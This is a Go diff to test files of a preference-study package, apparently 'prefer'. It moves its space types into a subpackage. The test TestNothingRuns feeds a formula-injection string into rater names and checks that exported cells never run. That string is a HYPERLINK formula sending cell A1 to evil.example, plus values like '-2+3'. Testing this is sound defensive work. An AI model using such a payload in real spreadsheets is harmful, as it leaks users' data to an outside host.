@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/prefer-bo/prefer"
+	"github.com/prefer-bo/prefer/space"
 )
 
 func TestCell(t *testing.T) {
@@ -35,13 +36,13 @@ func runs(cell string) bool {
 // TestNothingRuns: whoever names raters, sessions, studies, words and parameters, no cell of any table is run.
 func TestNothingRuns(t *testing.T) {
 	const evil = `=HYPERLINK("http://evil.example/?"&A1,"open")`
-	space := prefer.Space{Parameters: []prefer.Parameter{{Name: "@bean", Type: "categorical", Choices: []prefer.Value{prefer.ValueOf("-a+b"), prefer.ValueOf("+c")}}, prefer.Float("=x", -1, 1)}}
-	study, err := prefer.New(t.Context(), prefer.Config{Space: space, People: prefer.PerRater})
+	sp := space.Space{Parameters: []space.Parameter{{Name: "@bean", Type: "categorical", Choices: []space.Value{space.ValueOf("-a+b"), space.ValueOf("+c")}}, space.Float("=x", -1, 1)}}
+	study, err := prefer.New(t.Context(), prefer.Config{Space: sp, People: prefer.PerRater})
 	if err != nil {
 		t.Fatal(err)
 	}
-	option := func(bean string, x float64) prefer.Option {
-		return prefer.Option{"@bean": prefer.ValueOf(bean), "=x": prefer.ValueOf(x)}
+	option := func(bean string, x float64) space.Option {
+		return space.Option{"@bean": space.ValueOf(bean), "=x": space.ValueOf(x)}
 	}
 	for _, rater := range []string{evil, "\tben", "-2+3"} {
 		if _, err := study.Observe(t.Context(), prefer.Duel{First: option("-a+b", -0.5), Second: option("+c", 0.5), Rater: rater,
@@ -100,8 +101,8 @@ func TestCellRead(t *testing.T) {
 	if err != nil || len(items) != 2 {
 		t.Fatal(items, err)
 	}
-	if a, b := items[0], items[1]; a.ID != "=a" || a.Text != "@home" || a.Features["=taste"] != prefer.ValueOf("-sweet") || a.Features["cost"] != prefer.ValueOf(-5) ||
-		b.ID != "'=a" || b.Text != "+" || b.Features["=taste"] != prefer.ValueOf("'+sour") {
+	if a, b := items[0], items[1]; a.ID != "=a" || a.Text != "@home" || a.Features["=taste"] != space.ValueOf("-sweet") || a.Features["cost"] != space.ValueOf(-5) ||
+		b.ID != "'=a" || b.Text != "+" || b.Features["=taste"] != space.ValueOf("'+sour") {
 		t.Errorf("%+v", items)
 	}
 	pairs, err := ReadPairs(table([]string{"winner", "loser", "rater"}, []string{"=a", "-b", "@ann"}))
